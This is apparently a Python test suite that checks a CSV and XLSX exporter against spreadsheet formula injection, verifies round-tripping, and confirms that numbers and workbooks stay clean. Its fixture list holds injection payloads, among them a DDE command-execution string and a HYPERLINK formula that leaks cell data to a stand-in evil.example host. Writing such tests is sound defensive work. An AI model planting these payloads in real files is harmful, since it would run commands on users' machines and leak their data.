"""Files people open in a spreadsheet: no text is ever run, no number becomes a text, and nothing is lost on the way back."""

from __future__ import annotations

import csv as reader
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rounds.actions.flow.imports.cells import as_written
from rounds.documents import csv, xlsx

SIGNS = "=+-@＝＋－＠"
RUN = [
    "=1+1", "+1", "-1+1|cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "'=1", "''=1", '"=1', "' =1", "＝1+1", "＋1", "－1", "＠x",
    '=HYPERLINK("https://evil.example?x="&A1,"x")', "=cmd|' /C calc'!A0", "\ufeff=1", "\u200b=1", "\tplain", "\nplain",
]  # fmt: skip
LATER = ["x;=1", "x|=1", "x\t=1", "x\n=1", 'x";"=1', "x; '=1", "x\r\n-1", "x;;@y", "Ann;=1;=2"]
ODD = st.text(st.sampled_from(list(SIGNS + "'\";|\t\r\n ,x1é\ufeff\u200b\u00a0")) | st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=20)


def cells(text: str, separator: str = ",") -> list[list[str]]:
    return list(reader.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=separator))


@pytest.mark.req("SEC-08")
@pytest.mark.parametrize("text", RUN + LATER)
def test_what_would_be_run_is_not(text):
    written = csv.neutral(text)
    assert written != text
    assert csv.restored(written) == text


@settings(max_examples=600)
@given(ODD)
def test_what_leaves_comes_back_as_it_was(text):
    assert csv.restored(csv.neutral(text)) == text


@settings(max_examples=300)
@given(st.lists(ODD, min_size=1, max_size=4))
def test_no_cell_of_a_file_begins_like_a_formula_whatever_separates(texts):
    body = "".join(csv.lines(["a"] * len(texts), [texts]))
    for separator in ",;\t|":
        for row in cells(body, separator):
            for cell in row:
                assert not cell.startswith(("=", "@", "＝", "＠", "+", "－", "-", "＋")), (separator, body)


@given(st.lists(ODD.map(str.strip).filter(bool), min_size=1, max_size=5))
def test_a_file_of_ours_is_read_back_whole(texts):
    body = "".join(csv.lines(["name"], [[text] for text in texts]))
    assert [as_written(row[0]) for row in cells(body)[1:]] == texts


@pytest.mark.parametrize(("value", "said"), [(-5, "-5"), (-1.5, "-1.5"), (Decimal("-0.10"), "-0.10"), (0, "0"), (None, ""), (True, "yes")])
def test_numbers_stay_numbers(value, said):
    assert cells("".join(csv.lines(["x"], [[value]])))[1:] == [[said]] or said == ""


@given(st.lists(st.one_of(ODD, st.integers(-(10**9), 10**9), st.floats(allow_nan=True)), min_size=1, max_size=5))
def test_a_workbook_holds_no_formula_and_is_whole(values):
    from xml.etree import ElementTree

    with zipfile.ZipFile(io.BytesIO(xlsx.book("Leads", ["a"] * len(values), [values], {"=x": "=y"}))) as pack:
        assert pack.testzip() is None
        for name in pack.namelist():
            tree = ElementTree.fromstring(pack.read(name))
            assert not [part for part in tree.iter() if part.tag.endswith("}f")]
        sheet = ElementTree.fromstring(pack.read("xl/worksheets/sheet1.xml"))
        kinds = [cell.get("t") for cell in sheet.iter() if cell.tag.endswith("}c")]
        assert set(kinds) <= {None, "inlineStr"}
